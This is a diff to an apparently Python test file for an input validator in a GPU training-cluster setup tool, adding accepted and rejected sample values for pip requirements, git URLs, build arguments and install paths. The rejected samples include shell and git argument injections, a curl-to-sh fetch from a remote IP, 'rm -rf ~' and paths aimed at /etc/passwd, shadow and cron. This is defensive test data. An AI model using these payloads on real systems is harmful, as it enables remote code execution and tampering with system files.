@@ -60,6 +60,20 @@ GOOD = [
     ("relative_path", "wheels/cu128"), ("file_name", "torch-2.7.0-cp311-linux_x86_64.whl"),
     ("text", "cat /proc/sys/kernel/random/boot_id"), ({"min": 1}, 30), ({"min": 0, "max": 1}, 0.95),
     ({"items": "slurm_word"}, ["a", "b"]),
+    # issue 25's unusual-but-legal values
+    ("pip_requirement", "deepspeed==0.16.4; platform_machine == 'x86_64'"), ("pip_requirement", "numpy >= 1.26, < 2"),
+    ("pip_requirement", 'transformers[torch]>=4.44,!=4.45.0; python_version >= "3.10"'),
+    ("release", "1.18.1"), ("version", "4.2"), ("cuda_arch", "9.0"), ("cuda_arch", "sm_90a"), ("cuda_arch", "100"),
+    ("host_pattern", "slurm_compute:&gpu"), ("host_pattern", "gpu[01:04]"),
+    ("owned_path", "/usr/local/bin/trainstack-torchrun"), ("owned_path", "/etc/trainstack/pytorch-launch.json"),
+    ("owned_path", "/opt/ml/bin/launch"), ("owned_path", "/usr/local/sbin/x"),
+    ("git_url", "https://github.com/NVIDIA/nccl-tests.git"), ("git_url", "../shared/mirrors/nccl-tests/nccl-tests.bundle"),
+    ("git_url", "git@git.example.org:mirrors/nccl-tests.git"), ("git_url", "ssh://git@git.example.org/nccl-tests.git"),
+    ("git_url", "/srv/mirror/nccl-tests.bundle"),
+    ("build_arg", "CFLAGS=-O2 -g"), ("build_arg", "--with-verbs=/usr"), ("build_arg", "CXX=g++-11"),
+    ({"words": ["auto", ""], "format": "path"}, "auto"), ({"words": ["auto", ""], "format": "path"}, ""),
+    ({"words": ["auto", ""], "format": "path"}, "/usr/local/cuda-12.8"), ({"words": ["auto"], "format": "version"}, "4.2.2"),
+    ({"words": [None], "format": "hostname"}, None), ({"words": [None], "format": "hostname"}, "ctl01"),
 ]
 
 BAD = [
@@ -118,7 +132,6 @@ BAD = [
     ("mpi_env_key", "BASH_ENV", "must match"),
     ("pip_requirement", "numpy --pre", "contains a space"),
     ("pip_requirement", "-rrequirements.txt", "not a pip option"),
-    ("pip_requirement", "numpy==1.26;os_name=='nt'", "must match"),
     ("path", "/opt/x;touch$IFS/tmp/p", "';' (a shell or Tcl metacharacter)"),
     ("owned_dir", "/opt/$(id)", "'$' (a shell or Tcl metacharacter)"),
     ("path", "/opt/[exec${IFS}id]", "'[' (a shell or Tcl metacharacter)"),
@@ -147,6 +160,26 @@ BAD = [
     ({"min": 1}, True, "must be a number"),
     ({"items": "slurm_word"}, "a", "must be a list"),
     ({"fields": {"a": "slurm_word"}}, ["a"], "must be a mapping"),
+    # issue 25's held-out findings
+    ("owned_path", "/etc/passwd", "would replace a system file"), ("owned_path", "/usr/bin/python3", "would replace a system file"),
+    ("owned_path", "/etc/profile.d/x.sh", "would replace a system file"), ("owned_path", "/etc/cron.d/x", "would replace"),
+    ("owned_path", "/root/x", "would replace"), ("owned_path", "/x", "would replace"), ("owned_path", "/etc/t/../shadow", "'..'"),
+    ("git_url", "--upload-pack=touch /tmp/pwned", "contains a space"), ("git_url", "--upload-pack=id", "must not begin with '-'"),
+    ("git_url", "ext::sh%20-c%20id", "transport helper"), ("git_url", "https://x/y.git;id", "contains ';'"),
+    ("git_url", "ftp://x/y.git", "must be an https, ssh, git or file URL"),
+    ("build_arg", "--with-knem=$(curl -s http://198.51.100.7/x|sh)", "contains '$' (a shell metacharacter)"),
+    ("build_arg", "--enable-mt`id`", "contains '`'"), ("build_arg", "CFLAGS=-O2;id", "contains ';'"),
+    ("build_arg", "--enable-mt\nid", "contains a newline"),
+    ("release", "v1.18.1", "must match"), ("release", "1.18", "must match"), ("version", "newest", "must match"),
+    ("cuda_arch", "90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("cuda_arch", "hopper", "must match"),
+    ("pip_requirement", "deepspeed; id #", "contains '#'"), ("pip_requirement", "deepspeed==1; $(id)", "contains '$'"),
+    ("pip_requirement", "numpy; --pre", "contains a space"),
+    ("controller_path", "/srv/cache;rm -rf ~", "contains a space"), ("controller_path", "/srv/cache;id", "contains ';'"),
+    ("controller_path", "~root/x", "must be an absolute path"),
+    ({"words": ["auto", ""], "format": "path"}, "/usr/local/cuda/../../../etc", "must not contain '..' (or one of: 'auto', '')"),
+    ({"words": ["auto", ""], "format": "path"}, "usr/local/cuda", "must be an absolute path"),
+    ({"words": ["auto"], "format": "version"}, "newest", "must match"),
+    ({"words": [None], "format": "hostname"}, "ctl01;id", "must be a DNS name (or one of: null)"),
 ]
 
 
